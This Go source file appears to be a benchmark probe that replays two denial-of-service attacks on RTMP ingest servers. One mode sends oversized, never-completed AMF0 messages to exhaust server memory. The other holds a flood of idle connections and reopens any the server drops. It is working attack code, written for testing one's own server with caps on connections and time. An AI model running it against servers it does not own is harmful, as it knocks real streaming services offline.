// Command rtmp replays the two attacks on RTMP ingest of issue #18 against
// a server, bounded in connections and time, and prints what the server
// did with its connections. It is a probe for benchmarks and checks, to run
// against a server of your own only.
//
//	go run ./bench/attack/rtmp -addr 127.0.0.1:1935 -mode bigmsg -conns 3 -duration 30s
//	go run ./bench/attack/rtmp -addr 127.0.0.1:1935 -mode idle -conns 1000 -duration 60s
//
// Modes:
//
//   - bigmsg (issue #18 A): each connection shakes hands, sets a chunk size
//     of 65536, then on chunk streams 3 to 63 announces a 10 MiB AMF0
//     command (message type 0x14) and sends -chunks chunks of 64 KiB of it
//     (159 by default: each message left a chunk short of complete). An
//     unguarded server holds about 600 MiB per connection. Once it has
//     sent all, a connection waits for the server to close it.
//   - idle (issue #18 C): -conns TCP connections that send nothing, from
//     this host's one address. One the server closes is opened again
//     after -reopen (0: never), so that the flood keeps its size.
//
// Every connection ends at -duration at the latest; then the probe prints
// a summary and exits 0 (1 if no connection could be opened, 2 on bad
// flags). Flags: -conns (default 3 for bigmsg, 1000 for idle; at most
// 10000), -duration (default 30s; at most 10m), -chunks, -reopen
// (default 100ms).
//
// Output, on stdout, one event per line, times in seconds since the start:
//
//	start mode=bigmsg addr=127.0.0.1:1935 conns=3 duration=30s
//	conn=2 t=0.004 dropped after 0.004s, 3089 bytes sent: write: connection reset by peer
//	t=1.000 open=0 opened=3 dropped=3 dial_failed=0
//	summary mode=bigmsg conns=3 opened=3 dial_failed=0 dropped=3 first_drop=0.004 last_drop=0.005 open_at_end=0 sent_mib=0.2
//
// "dropped" counts the connections the server closed (or reset, or
// closed at once after accepting) before -duration, first_drop and
// last_drop when; "open" those open at the time, open_at_end those the
// probe closed itself at the end; "opened" counts every connection
// opened, reopened ones too. A line per second says how things stand; in
// bigmsg mode a line per connection says how it ended.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/bluenviron/gortmplib/pkg/handshake"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:1935", "the RTMP server's address")
	mode := flag.String("mode", "", "bigmsg or idle")
	conns := flag.Int("conns", 0, "connections at once: 0 means 3 for bigmsg, 1000 for idle (at most 10000)")
	duration := flag.Duration("duration", 30*time.Second, "how long the attack lasts (at most 10m)")
	chunks := flag.Int("chunks", 159, "bigmsg: 64 KiB chunks sent of each 10 MiB message (1 to 159)")
	reopen := flag.Duration("reopen", 100*time.Millisecond, "idle: delay before a connection the server closed is opened again; 0 means never")
	flag.Parse()
	if *conns == 0 {
		*conns = map[string]int{"bigmsg": 3, "idle": 1000}[*mode]
	}
	switch {
	case *mode != "bigmsg" && *mode != "idle":
		fail("-mode must be bigmsg or idle")
	case *conns < 1 || *conns > 10000:
		fail("-conns must be 1 to 10000")
	case *duration <= 0 || *duration > 10*time.Minute:
		fail("-duration must be above 0 and at most 10m")
	case *chunks < 1 || *chunks > 159:
		fail("-chunks must be 1 to 159")
	case *reopen < 0:
		fail("-reopen must not be negative")
	}

	p := &probe{addr: *addr, start: time.Now(), chunks: *chunks, reopen: *reopen}
	fmt.Printf("start mode=%s addr=%s conns=%d duration=%v\n", *mode, *addr, *conns, *duration)
	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()
	var wg sync.WaitGroup
	for i := range *conns {
		wg.Go(func() {
			if *mode == "bigmsg" {
				p.bigmsg(ctx, i+1)
			} else {
				p.idle(ctx)
			}
		})
	}
	ticks := time.NewTicker(time.Second)
	done := make(chan struct{})
	go func() {
		wg.Wait()
		close(done)
	}()
	for running := true; running; {
		select {
		case <-ticks.C:
			fmt.Printf("t=%.3f open=%d opened=%d dropped=%d dial_failed=%d\n",
				p.since(), p.open.Load(), p.opened.Load(), p.dropped.Load(), p.dialFailed.Load())
		case <-done:
			running = false
		}
	}
	ticks.Stop()
	first, last := "-", "-"
	if p.dropped.Load() > 0 {
		first = fmt.Sprintf("%.3f", time.Duration(p.firstDrop.Load()).Seconds())
		last = fmt.Sprintf("%.3f", time.Duration(p.lastDrop.Load()).Seconds())
	}
	fmt.Printf("summary mode=%s conns=%d opened=%d dial_failed=%d dropped=%d first_drop=%s last_drop=%s open_at_end=%d sent_mib=%.1f\n",
		*mode, *conns, p.opened.Load(), p.dialFailed.Load(), p.dropped.Load(), first, last, p.openAtEnd.Load(), float64(p.sent.Load())/(1<<20))
	if p.opened.Load() == 0 {
		os.Exit(1)
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "rtmp probe:", msg)
	flag.Usage()
	os.Exit(2)
}

// probe counts what happens to its connections. Safe for concurrent use.
type probe struct {
	addr   string
	start  time.Time
	chunks int
	reopen time.Duration

	opened, dialFailed, dropped, open, openAtEnd, sent atomic.Int64
	firstDrop, lastDrop                                atomic.Int64 // since start, in nanoseconds
}

func (p *probe) since() float64 { return time.Since(p.start).Seconds() }

// dial opens a connection that ctx's end closes; stop releases that.
func (p *probe) dial(ctx context.Context) (nc net.Conn, stop func() bool, err error) {
	nc, err = (&net.Dialer{}).DialContext(ctx, "tcp", p.addr)
	if err != nil {
		if ctx.Err() == nil {
			p.dialFailed.Add(1)
		}
		return nil, nil, err
	}
	p.opened.Add(1)
	p.open.Add(1)
	return nc, context.AfterFunc(ctx, func() { nc.Close() }), nil
}

// wait reads nc until the server closes it, or ctx ends, and counts how
// the connection ended.
func (p *probe) wait(ctx context.Context, nc net.Conn, stop func() bool) (dropped bool, err error) {
	_, err = io.Copy(io.Discard, nc)
	return p.end(ctx, nc, stop, err)
}

// end closes nc and counts how it ended: dropped by the server unless
// ctx ended first.
func (p *probe) end(ctx context.Context, nc net.Conn, stop func() bool, err error) (bool, error) {
	stop()
	nc.Close()
	p.open.Add(-1)
	if ctx.Err() != nil {
		p.openAtEnd.Add(1)
		return false, err
	}
	at := int64(time.Since(p.start))
	if p.dropped.Add(1) == 1 {
		p.firstDrop.Store(at)
	}
	p.lastDrop.Store(at) // the order of two drops at once does not matter here
	if err == nil {
		err = io.EOF
	}
	return true, err
}

// idle holds one silent connection at a time until ctx ends.
func (p *probe) idle(ctx context.Context) {
	for ctx.Err() == nil {
		nc, stop, err := p.dial(ctx)
		if err == nil {
			p.wait(ctx, nc, stop)
		}
		if p.reopen == 0 {
			<-ctx.Done()
			return
		}
		t := time.NewTimer(p.reopen)
		select {
		case <-ctx.Done():
		case <-t.C:
		}
		t.Stop()
	}
}

// bigmsg runs issue #18 A on one connection, number n.
func (p *probe) bigmsg(ctx context.Context, n int) {
	nc, stop, err := p.dial(ctx)
	if err != nil {
		fmt.Printf("conn=%d t=%.3f dial failed: %v\n", n, p.since(), err)
		return
	}
	start := time.Now()
	sent, err := p.sendBigMessages(nc)
	p.sent.Add(sent)
	var dropped bool
	if err != nil {
		dropped, err = p.end(ctx, nc, stop, err)
	} else {
		fmt.Printf("conn=%d t=%.3f all %d MiB sent; waiting for the server\n", n, p.since(), sent>>20)
		dropped, err = p.wait(ctx, nc, stop)
	}
	if dropped {
		fmt.Printf("conn=%d t=%.3f dropped after %.3fs, %d bytes sent: %v\n", n, p.since(), time.Since(start).Seconds(), sent, err)
	} else {
		fmt.Printf("conn=%d t=%.3f still open at the end, %d bytes sent\n", n, p.since(), sent)
	}
}

// sendBigMessages shakes hands, then writes the attack's chunks. It
// returns the bytes written and the first error.
func (p *probe) sendBigMessages(nc net.Conn) (int64, error) {
	var sent int64
	if _, _, err := handshake.DoClient(nc, false, false); err != nil {
		return 0, fmt.Errorf("handshake: %w", err)
	}
	write := func(b []byte) error {
		n, err := nc.Write(b)
		sent += int64(n)
		return err
	}
	// Set Chunk Size 65536 (RTMP 1.0, 5.4.1), on chunk stream 2.
	if err := write([]byte{2, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0, 0, 1, 0, 0}); err != nil {
		return sent, err
	}
	length := 10 << 20 // bytes
	chunk := make([]byte, 1+65536)
	for cs := byte(3); cs <= 63; cs++ {
		// A type 0 chunk header: timestamp 0, the length, type 0x14
		// (AMF0 command), message stream 0; then the first 64 KiB.
		head := []byte{cs, 0, 0, 0, byte(length >> 16), byte(length >> 8), byte(length), 0x14, 0, 0, 0, 0}
		if err := write(append(head, chunk[1:]...)); err != nil {
			return sent, err
		}
		chunk[0] = 0xc0 | cs // type 3 chunks: the same message goes on
		for range p.chunks - 1 {
			if err := write(chunk); err != nil {
				return sent, err
			}
		}
	}
	return sent, nil
}
